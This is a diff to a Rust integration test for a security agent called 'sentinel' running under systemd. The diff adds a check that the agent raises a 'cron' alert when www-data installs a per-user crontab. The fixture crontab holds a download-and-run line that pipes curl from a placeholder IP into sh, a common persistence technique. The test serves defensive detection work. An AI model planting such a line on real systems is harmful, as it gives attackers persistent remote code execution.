@@ -4,7 +4,9 @@
 //! through `cargo xtask install --destdir`, and the test checks what an operator relies on:
 //! `systemctl start` returns once the agent said READY=1 and the unit is active; the watchdog
 //! keeps it alive past 60 s; `kill -9` of the main process is restarted; a block lands in
-//! nftables from inside the sandbox; `systemctl stop` is clean. The override endpoint's port
+//! nftables from inside the sandbox; a per-user crontab (mode 0600, owned by `www-data`, which
+//! only CAP_DAC_READ_SEARCH lets the sandboxed root read) raises a `cron` alert; `systemctl
+//! stop` is clean. The override endpoint's port
 //! is `sentinel.socket`'s from boot (a user process cannot take it before the agent starts),
 //! and the agent serves on that socket, again after its restart.
 //!
@@ -282,6 +284,16 @@ impl Container {
     fn journal(&self) -> String {
         self.sh(&["journalctl", "-u", "sentinel", "--no-pager", "-n", "40"])
     }
+
+    /// The alerts the agent stored (`sentinel tail --json --kind alert`).
+    fn alerts(&self) -> Vec<serde_json::Value> {
+        self.sh(&[
+            "sentinel", "tail", "--json", "--kind", "alert", "-n", "100000",
+        ])
+        .lines()
+        .filter_map(|l| serde_json::from_str(l).ok())
+        .collect()
+    }
 }
 
 impl Drop for Container {
@@ -362,6 +374,59 @@ fn assert_override_served(container: &Container, port: u16) {
     );
 }
 
+/// The per-user crontab directory as the `cron` package makes it (mode 1730; root:root here,
+/// the base system has no `crontab` group), staged before boot: the agent watches what exists
+/// when it starts.
+fn crontab_dir_at_boot(staged: &Path) {
+    use std::os::unix::fs::PermissionsExt;
+    let dir = staged.join(CRONTABS.trim_start_matches('/'));
+    fs::create_dir_all(&dir).unwrap();
+    fs::set_permissions(&dir, fs::Permissions::from_mode(0o1730)).unwrap();
+}
+
+/// Where `crontab -e` keeps per-user crontabs.
+const CRONTABS: &str = "/var/spool/cron/crontabs";
+
+/// `www-data` (uid 33 in Debian's base passwd) installs a download-and-run crontab the way
+/// `crontab(1)` does: a `tmp.` file in the directory, mode 0600, renamed into place. The agent
+/// must read it (only CAP_DAC_READ_SEARCH lets root past mode 0600 here) and raise `cron`.
+fn assert_user_crontab_seen(container: &Container) {
+    let file = format!("{CRONTABS}/www-data");
+    let script = format!(
+        "umask 077 && printf '%s\\n' '* * * * * curl -s http://198.51.100.2/x | sh' \
+         > {CRONTABS}/tmp.sentinel && chown 33:33 {CRONTABS}/tmp.sentinel && \
+         chmod 0600 {CRONTABS}/tmp.sentinel && mv {CRONTABS}/tmp.sentinel {file}"
+    );
+    let out = container.exec(&["sh", "-c", &script]);
+    assert!(
+        out.status.success(),
+        "writing {file}: {}",
+        String::from_utf8_lossy(&out.stderr)
+    );
+    let deadline = Instant::now() + Duration::from_secs(30);
+    loop {
+        let alerts = container.alerts();
+        let about_it = |anomaly: &str| {
+            alerts.iter().any(|a| {
+                a["anomaly"] == anomaly && a["detail"].as_str().is_some_and(|d| d.contains(&file))
+            })
+        };
+        if about_it("cron") {
+            assert!(
+                !about_it("switch_flood"),
+                "the agent could not read {file}: {alerts:?}"
+            );
+            return;
+        }
+        assert!(
+            Instant::now() < deadline,
+            "no cron alert for {file} within 30 s; alerts: {alerts:?}\n{}",
+            container.journal()
+        );
+        thread::sleep(Duration::from_millis(500));
+    }
+}
+
 fn run(command: &mut Command) {
     let out = command.output().unwrap();
     assert!(
@@ -388,6 +453,7 @@ fn the_unit_runs_under_systemd() {
     // The override endpoint on a free port (the container shares the host's network), its
     // socket unit enabled as on an installed host: systemd binds it at boot.
     let port = override_socket_at_boot(&staged);
+    crontab_dir_at_boot(&staged);
     let container = Container::boot(&root, &staged, |config| {
         config
             .replace("table = \"sentinel\"", &format!("table = \"{}\"", table.0))
@@ -443,6 +509,9 @@ fn the_unit_runs_under_systemd() {
         );
         thread::sleep(Duration::from_millis(250));
     }
+
+    // A web exploit's favourite persistence, a per-user crontab, is read and judged.
+    assert_user_crontab_seen(&container);
 
     // The watchdog (WatchdogSec=30s) is fed: the same process is still running after 65 s.
     let since = Instant::now();
